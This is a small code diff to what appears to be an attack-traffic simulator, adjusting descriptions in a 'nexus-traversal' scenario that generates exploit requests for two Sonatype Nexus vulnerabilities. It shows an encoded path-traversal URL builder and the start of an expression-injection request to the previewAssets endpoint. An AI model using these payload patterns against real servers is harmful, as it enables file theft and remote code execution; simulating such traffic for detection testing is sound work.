@@ -7,7 +7,7 @@ const SLASH = '%2F';
 const UP = `..${SLASH}`;
 const fileOf = (path: string): string => `/${SLASH.repeat(7)}${UP.repeat(7)}${encodeURIComponent(path)}`;
 
-/** A component search whose filter is an expression that the server evaluates. */
+/** A component search with an EL expression in its filter, which the server evaluates. */
 const EXPRESSION = JSON.stringify({
   action: 'coreui_Component',
   method: 'previewAssets',
@@ -18,7 +18,7 @@ const EXPRESSION = JSON.stringify({
 
 export const nexusTraversal = {
   name: 'nexus-traversal',
-  describe: 'files and commands through Sonatype Nexus (CVE-2024-4956, CVE-2019-7238)',
+  describe: 'path traversal and code execution in Sonatype Nexus (CVE-2024-4956, CVE-2019-7238)',
   minute: 75,
   packets: random => [
     ...webAttack(
